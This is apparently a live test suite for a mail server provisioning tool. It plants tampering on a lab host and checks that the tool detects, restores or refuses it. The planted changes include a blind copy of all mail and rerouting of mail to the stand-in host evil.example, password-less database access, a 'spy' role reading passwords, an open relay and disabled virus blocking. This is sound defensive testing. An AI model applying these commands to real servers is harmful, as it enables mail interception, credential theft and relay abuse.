"""What somebody changes beside us on a built server: a run puts it back or names it, and the checks see it. Whose each thing is
stands in docs/ours.md."""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import checks
from checks.engine.target import Target
from lab import Host, inventory_data
from tests.live.support import MAILSERVER, LabHost, applied, fingerprint, pyinfra

Count = Callable[..., None]
SQL = "cd /; runuser -u postgres -- psql -qX mail -c"
HBA = "/etc/postgresql/*/main/pg_hba.conf"
CONF = "/etc/dovecot/dovecot.conf"
UNIT = "/etc/systemd/system/dovecot.service.d"
NAMED = "not mailroom's: "


@dataclass(frozen=True)
class Drift:
    """What is done to the host, the words by which a run names it, the check that sees it, and what takes it away again."""

    done: str
    said: str
    seen: str
    back: str


def main(name: str, value: str = "") -> Drift:
    check = "postfix.restart.nothing_beside"
    return Drift(f"postconf -e '{name}={value}'", f"main.cf sets {name}", check, f"postconf -X {name}")


def override(name: str, value: str) -> Drift:
    check = "postfix.submission.nothing_beside"
    return Drift(f"postconf -P '{name}={value}'", f"an override {name}", check, f"postconf -PX {name}")


def hba(line: str, said: str) -> Drift:
    back = f"sed -i '\\|^{line}$|d' {HBA}"
    return Drift(f"sed -i '1i {line}' {HBA}", said, "postgresql.access.nothing_beside", back)


def sql(done: str, said: str, back: str, seen: str = "postgresql.tables.nothing_beside") -> Drift:
    return Drift(f'{SQL} "{done}"', said, seen, f'{SQL} "{back}"')


def dovecot(line: str, said: str) -> Drift:
    return Drift(f"echo '{line}' >>{CONF}", said, "dovecot.includes.nothing_beside", f"sed -i '\\|^{line}$|d' {CONF}")


def part(name: str) -> Drift:
    path = f"/etc/amavis/conf.d/{name}"
    return Drift(f"printf 'use strict;\\n1;\\n' >{path}", path, "amavis.amavis.nothing_beside", f"rm {path}")


NAMES = {
    "trust before ours": hba("local all nobody trust", "lets in without a password"),
    "the network at the database": hba(
        "host all all 192.0.2.0/24 scram-sha-256", "lets 192.0.2.0 at the database mail"
    ),
    "a map of Unix users": hba("local all all peer map=x", "maps Unix users"),
    "a setting at the end of dovecot.conf": dovecot(
        "auth_verbose_passwords = plain", ": auth_verbose_passwords stands in no"
    ),
    "a passdb for everybody": dovecot(
        "!include_try /etc/dovecot/more.conf", "!include_try /etc/dovecot/more.conf stands"
    ),
    "a copy of all mail": main("always_bcc", "spy@evil.example"),
    "a greeting that opens all": main("smtpd_helo_restrictions", "permit"),
    "a client who may all": main("smtpd_client_restrictions", "permit"),
    "another way out": main("sender_dependent_relayhost_maps", "inline:{@example.test=[evil.example]}"),
    "headers rewritten": main("header_checks", "regexp:/dev/null"),
    "who relays on 25": override("smtp/inet/smtpd_relay_restrictions", "permit"),
    "whoever submits": override("submission/inet/smtpd_client_restrictions", "permit"),
    "the way back open": override("127.0.0.1:10025/inet/smtpd_authorized_xclient_hosts", "0.0.0.0/0"),
    "the last hop": override("lmtp/unix/lmtp_header_checks", "regexp:/dev/null"),
    "another port": Drift(
        "postconf -M '127.0.0.1:2525/inet=127.0.0.1:2525 inet n - y - - smtpd -o smtpd_relay_restrictions=permit'",
        "a service 127.0.0.1:2525/inet",
        "postfix.submission.nothing_beside",
        "postconf -MX 127.0.0.1:2525/inet",
    ),
    "the last word to Amavis": part("99-late"),
    "a part before ours": part("55-early"),
    "a welcomed sender": Drift(
        "echo 'whitelist_from *@example.net' >>/etc/spamassassin/local.cf",
        "welcomes a sender",
        "amavis.amavis.nothing_beside",
        "sed -i '/^whitelist_from /d' /etc/spamassassin/local.cf",
    ),
    "another role's rights": sql(
        "CREATE ROLE spy; GRANT SELECT (password) ON users TO spy",
        "the role spy has rights on the table users",
        "REVOKE ALL ON users FROM spy; DROP ROLE spy",
    ),
    "a function with its owner's rights": sql(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", "a function f", "DROP FUNCTION f"
    ),
    "default rights": sql(
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
        "default rights for new tables",
        "ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM PUBLIC",
    ),
    "tables in the place of ours": sql(
        "CREATE SCHEMA mailreader CREATE TABLE users (x int)", "a table users", "DROP SCHEMA mailreader CASCADE"
    ),
    "a setting of the role's": sql(
        "ALTER ROLE mailreader SET statement_timeout = '60s'",
        "settings of its own for the role mailreader",
        "ALTER ROLE mailreader RESET ALL",
    ),
    "mail led away": sql(
        "UPDATE transports SET transport = 'smtp:[evil.example]:25'",
        "leads example.test elsewhere",
        "UPDATE transports SET transport = 'lmtp:unix:private/dovecot-lmtp'",
        "postgresql.delivery.nothing_beside",
    ),
    "another program in a unit": Drift(
        f"mkdir -p {UNIT}; printf '[Service]\\nEnvironment=X=1\\n' >{UNIT}/x.conf",
        f"{UNIT}/x.conf overrules",
        "host.ports.nothing_beside",
        f"rm -r {UNIT}; systemctl daemon-reload",
    ),
}

# What is ours entirely: the operation that puts it back, and how that is seen on the host.
PUT_BACK = {
    "a line inside our block": (
        f"sed -i 's/^ssl = required/ssl = yes/' {CONF}",
        "TLS",
        f"grep -c '^ssl = required' {CONF}",
    ),
    "an include switched on": (
        f"sed -i 's/^#!include_try local.conf/!include_try local.conf/' {CONF}",
        "Switch off conf.d",
        f"grep -c '^#!include_try local.conf' {CONF}",
    ),
    "a block twice": (
        f"sed -n '/^# >>> mailroom: cleartext/,/^# <<< mailroom: cleartext/p' {CONF} >>{CONF}.x; cat {CONF}.x >>{CONF}; rm {CONF}.x",
        "Cleartext logins",
        f"[ $(grep -c '^# >>> mailroom: cleartext' {CONF}) = 1 ] && echo 1",
    ),
    "our lines of pg_hba.conf": (
        f"sed -i 's/^host mail mailreader .*/#&/' {HBA}",
        "Lines of pg_hba.conf",
        f"head -n 2 {HBA} | grep -c '^host'",
    ),
    "relay for the world": (
        "postconf -e 'mynetworks=0.0.0.0/0'",
        "Set restrictions",
        "postconf -h mynetworks | grep -c '^127'",
    ),
    "mail for any local name": (
        "postconf -e local_recipient_maps=",
        "Whom the host's own names reach",
        "postconf -h local_recipient_maps | grep -c postmaster",
    ),
    "a submission that takes all": (
        "postconf -P submission/inet/smtpd_relay_restrictions=permit",
        "Overrides of submission",
        "postconf -P submission/inet/smtpd_relay_restrictions | grep -c sasl",
    ),
    "a map": (
        "echo x >>/etc/postfix/pgsql/senders.cf",
        "Map senders",
        "grep -c x$ /etc/postfix/pgsql/senders.cf | grep -c ^0",
    ),
    "a power of the role's": (
        f'{SQL} "ALTER ROLE mailreader CREATEROLE REPLICATION; GRANT pg_execute_server_program TO mailreader"',
        "Role mailreader",
        f"{SQL} \"SELECT count(*) FROM pg_roles WHERE rolname = 'mailreader' AND NOT (rolcreaterole OR rolreplication "
        "OR pg_has_role(oid, 'pg_execute_server_program', 'member'))\" -At",
    ),
    "rights of the role's and of everybody": (
        f'{SQL} "GRANT UPDATE (password) ON users TO mailreader; GRANT SELECT ON aliases TO PUBLIC"',
        "Tables",
        f"{SQL} \"SELECT NOT has_any_column_privilege('mailreader', 'users', 'UPDATE')\" -At | grep -c t",
    ),
    "rights on the schema": (
        f'{SQL} "GRANT CREATE ON SCHEMA public TO mailreader"',
        "Rights on its schema",
        f"{SQL} \"SELECT NOT has_schema_privilege('mailreader', 'public', 'CREATE')\" -At | grep -c t",
    ),
    "an account's row": (
        f"{SQL} \"UPDATE users SET realname = 'Evil'\"",
        "Rows of users",
        f"{SQL} \"SELECT count(*) FROM users WHERE realname <> 'Evil'\" -At",
    ),
    "a part of Amavis's": (
        "echo '$final_virus_destiny = D_PASS; 1;' >>/etc/amavis/conf.d/60-mailroom",
        "Amavis's settings",
        "grep -c 'virus_destiny = D_PASS' /etc/amavis/conf.d/60-mailroom | grep -c ^0",
    ),
    "the mail open to all": ("chmod 777 /home/mail", "Directory of the mail", "stat -c %a /home/mail | grep -c 750"),
}


def test_what_is_put_beside_ours_is_named(mailserver: Host, target: Target, count: Count) -> None:
    """One prediction and one look of the checks see all of it, each by its own words; a run without it says nothing."""
    assert NAMED not in applied(MAILSERVER, "--dry").output
    clean = checks.run(target, only=["*.nothing_beside"])
    assert {one.verdict for one in clean} == {"pass"}, [(one.id, one.evidence) for one in clean]
    for name, one in NAMES.items():
        assert mailserver.run(one.done).returncode == 0, name
    try:
        output = pyinfra(MAILSERVER, "--dry").output
        lines = [line for line in output.splitlines() if NAMED in line]
        seen = {one.id: one for one in checks.run(target, only=["*.nothing_beside"])}
    finally:
        for one in NAMES.values():
            mailserver.run(one.back)
    said = [name for name, one in NAMES.items() if sum(one.said in line for line in lines) == 1]
    unseen = [name for name, one in NAMES.items() if name not in said or seen[one.seen].verdict not in ("warn", "fail")]
    count(
        "drift",
        "beside ours",
        mailserver.suite,
        injected=len(NAMES),
        put_back=0,
        named=len(said),
        refused=0,
        unseen=len(unseen),
    )
    assert not unseen, (unseen, lines, seen)
    assert all(one.remedy for one in seen.values() if one.verdict != "pass")
    applied(MAILSERVER)  # daemons older than their files
    last = applied(MAILSERVER)
    assert last.changes == 0 and NAMED not in last.output, last.changed


def test_what_is_ours_is_put_back(mailserver: Host, count: Count) -> None:
    for name, (done, _, _) in PUT_BACK.items():
        assert mailserver.run(done).returncode == 0, name
    run = pyinfra(MAILSERVER)
    named = [name for name, (_, operation, _) in PUT_BACK.items() if any(operation in one for one in run.changed)]
    back = [
        name for name, (_, _, proof) in PUT_BACK.items() if re.match("[1-9]", mailserver.run(f"{proof} || true").stdout)
    ]
    unseen = sorted(set(PUT_BACK) - (set(named) & set(back)))
    figures = {
        "injected": len(PUT_BACK),
        "put_back": len(back),
        "named": len(named),
        "refused": 0,
        "unseen": len(unseen),
    }
    count("drift", "in ours", mailserver.suite, **figures)
    assert run.code == 0 and not unseen, (unseen, run.output[-3000:])
    assert applied(MAILSERVER).changes == 0


FOREIGN = {
    "a directory with data": (
        "mkdir -p /srv/photos; echo x >/srv/photos/one",
        "mail_home /srv/photos is there already",
        "rm -r /srv/photos",
    ),
    "a certificate": (
        "mkdir -p /etc/postfix/certs; openssl req -new -x509 -days 90 -newkey rsa:2048 -nodes -subj /O=Operator/CN=x"
        " -keyout /etc/postfix/certs/key.pem -out /etc/postfix/certs/cert.pem 2>/dev/null",
        "is the certificate of CN=x,O=Operator",
        "rm -r /etc/postfix",
    ),
    "a map": (
        "mkdir -p /etc/postfix/pgsql; echo x >/etc/postfix/pgsql/senders.cf",
        "/etc/postfix/pgsql/senders.cf",
        "true",
    ),
    "a group": (
        "groupadd -g 200 vmail; usermod -aG vmail nobody",
        "nobody would read all mail",
        "gpasswd -d nobody vmail; groupdel vmail",
    ),
    "a link": (
        "echo 'root: me' >/etc/aliases.mine; ln -s aliases.mine /etc/aliases",
        "/etc/aliases is a link to",
        "rm /etc/aliases*",
    ),
}


def test_what_is_not_ours_is_refused(lab_host: LabHost, count: Count) -> None:
    """All at once, each by name, before the first change: the host keeps its bytes. It is the lab's client, which is bare."""
    host = lab_host("trixie", "client")
    for name, (done, _, _) in FOREIGN.items():
        assert host.run(done).returncode == 0, name
    try:
        inventory = Path(os.environ["MAILROOM_LAB_DIR"]) / "foreign.py"
        inventory.write_text(f"mail = [('client', {inventory_data(host.record)!r})]\n")
        before = fingerprint(host)
        run = pyinfra(MAILSERVER, "--data", "mail_home=/srv/photos", MAILROOM_INVENTORY=str(inventory.resolve()))
        after = fingerprint(host)
    finally:
        for _, _, back in FOREIGN.values():
            host.run(back)
    refused = [name for name, (_, said, _) in FOREIGN.items() if said in run.output]
    unseen = len(FOREIGN) - len(refused)
    count(
        "drift", "not ours", "trixie", injected=len(FOREIGN), put_back=0, named=0, refused=len(refused), unseen=unseen
    )
    assert run.code == 1 and not unseen and after == before, run.output
    assert "nothing was changed on this host" in run.output
